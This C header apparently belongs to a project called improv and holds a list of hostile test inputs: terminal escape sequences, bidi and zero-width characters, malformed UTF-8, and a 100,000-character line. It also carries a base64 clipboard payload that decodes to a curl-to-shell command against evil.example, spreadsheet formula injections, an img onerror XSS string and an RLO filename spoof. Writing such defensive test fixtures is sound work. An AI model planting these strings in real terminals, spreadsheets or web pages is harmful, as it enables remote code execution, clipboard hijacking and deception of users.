/* payloads: the one list of hostile texts that every path of improv is
 * tried with (tests/hostile/test_hostile.c, and through `test_hostile
 * --write DIR` the shell tests). Each is what a participant could type, a
 * file could hold or a database edited by hand could return: escape
 * sequences a terminal would act on, controls, bidi and zero-width
 * characters, bytes that are not UTF-8, a line far longer than any field,
 * a NUL, and cells a spreadsheet would run as formulas.
 *
 * Literals are split ("\x9b" "2J") where a hex escape would otherwise run
 * on into the next character. */
#ifndef IMPROV_TESTS_HOSTILE_PAYLOADS_H
#define IMPROV_TESTS_HOSTILE_PAYLOADS_H

#include <stdbool.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

/* X(name, literal): the literal may hold NUL bytes; its length is its
 * sizeof less the terminating NUL. */
#define PAYLOAD_LIST(X) \
	X(osc0_title, "Q1 \x1b]0;pwned title\x07 review") \
	X(osc0_title_st, "Q1 \x1b]2;pwned title\x1b\\ review") \
	X(osc8_link, "see \x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\ now") \
	X(osc52_clipboard, "copy \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 me") \
	X(csi_clear_screen, "wipe \x1b[2J\x1b[H screen") \
	X(csi_sgr_hidden, "hide \x1b[8m secret \x1b[0m text") \
	X(dcs_request, "dcs \x1bP+q544e\x1b\\ end") \
	X(c1_csi_utf8, "c1 \xc2\x9b" "2J as UTF-8") \
	X(c1_csi_raw, "c1 \x9b" "2J raw byte") \
	X(c1_osc_utf8, "c1 \xc2\x9d" "0;title\xc2\x9c as UTF-8") \
	X(bel, "ring \x07 bell") \
	X(backspace, "erase\x08\x08\x08\x08\x08 over") \
	X(carriage_return, "carriage\rreturn") \
	X(line_feed, "line\nfeed") \
	X(crlf, "two\r\nlines") \
	X(tab, "tab\tstop") \
	X(delete, "del \x7f byte") \
	X(bidi_alm, "abc \xd8\x9c def") \
	X(bidi_lrm, "abc \xe2\x80\x8e def") \
	X(bidi_rlm, "abc \xe2\x80\x8f def") \
	X(bidi_lre, "abc \xe2\x80\xaa def") \
	X(bidi_rle, "abc \xe2\x80\xab def") \
	X(bidi_pdf, "abc \xe2\x80\xac def") \
	X(bidi_lro, "abc \xe2\x80\xad def") \
	X(bidi_rlo, "invoice \xe2\x80\xae" "fdp.exe") \
	X(bidi_lri, "abc \xe2\x81\xa6 def") \
	X(bidi_rli, "abc \xe2\x81\xa7 def") \
	X(bidi_fsi, "abc \xe2\x81\xa8 def") \
	X(bidi_pdi, "abc \xe2\x81\xa9 def") \
	X(zero_width_space, "zero\xe2\x80\x8bwidth") \
	X(zero_width_non_joiner, "zero\xe2\x80\x8cwidth") \
	X(zero_width_joiner, "family \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7 end") \
	X(word_joiner_and_bom, "word\xe2\x81\xa0joiner \xef\xbb\xbf bom") \
	X(overlong_slash, "over \xc0\xaf long") \
	X(overlong_three, "over \xe0\x80\xaf long") \
	X(surrogate, "half \xed\xa0\x80 pair") \
	X(truncated_sequence, "cut \xe2\x82") \
	X(byte_ff, "bad \xff\xfe bytes") \
	X(nul, "before\0after") \
	X(csv_formula_equals, "=HYPERLINK(\"https://evil.example\",\"click\")") \
	X(csv_formula_plus, "+cmd|' /C calc'!A0") \
	X(csv_formula_at, " @SUM(1+1)*cmd|' /C calc'!A0") \
	X(csv_formula_minus, "-2+3") \
	X(markdown_table, "a | b ] ( `x` <img src=x onerror=alert(1)> # * _") \
	X(everything, "\x1b]0;t\x07\xe2\x80\xae\x1b[31mred\xc2\x9b\r\n\ttab\x08\xe2\x80\x8d")

#define PAYLOAD_LONG_CHARS 100000

/* The one payload that is too long for a literal: a line of 100,000
 * characters that ends in an OSC title sequence, so that whatever cuts it
 * must cut it safely. */
#define PAYLOAD_LONG_NAME "line_100000_chars"

struct payload {
	const char *name;
	char *bytes;            /* owned; may hold NUL bytes */
	size_t len;
};

#define PAYLOAD_ITEM(name, literal) {#name, literal, sizeof(literal) - 1},
static const struct {
	const char *name, *bytes;
	size_t len;
} payload_literals[] = { PAYLOAD_LIST(PAYLOAD_ITEM) };
#undef PAYLOAD_ITEM

#define PAYLOAD_COUNT (sizeof payload_literals / sizeof payload_literals[0] + 1)

/* Payload i (0 to PAYLOAD_COUNT - 1), freshly allocated: free with
 * payload_free. */
static struct payload payload_get(size_t i)
{
	struct payload p;
	size_t nliterals = sizeof payload_literals / sizeof payload_literals[0];
	if (i < nliterals) {
		p.name = payload_literals[i].name;
		p.len = payload_literals[i].len;
		p.bytes = malloc(p.len + 1);
		memcpy(p.bytes, payload_literals[i].bytes, p.len + 1);
		return p;
	}
	static const char tail[] = "\x1b]0;end\x07";
	size_t body = PAYLOAD_LONG_CHARS - (sizeof tail - 1);
	p.name = PAYLOAD_LONG_NAME;
	p.len = PAYLOAD_LONG_CHARS;
	p.bytes = malloc(p.len + 1);
	for (size_t k = 0; k < body; k++)
		p.bytes[k] = (char)('a' + k % 26);
	memcpy(p.bytes + body, tail, sizeof tail);
	return p;
}

static void payload_free(struct payload *p)
{
	free(p->bytes);
	p->bytes = NULL;
}

#endif
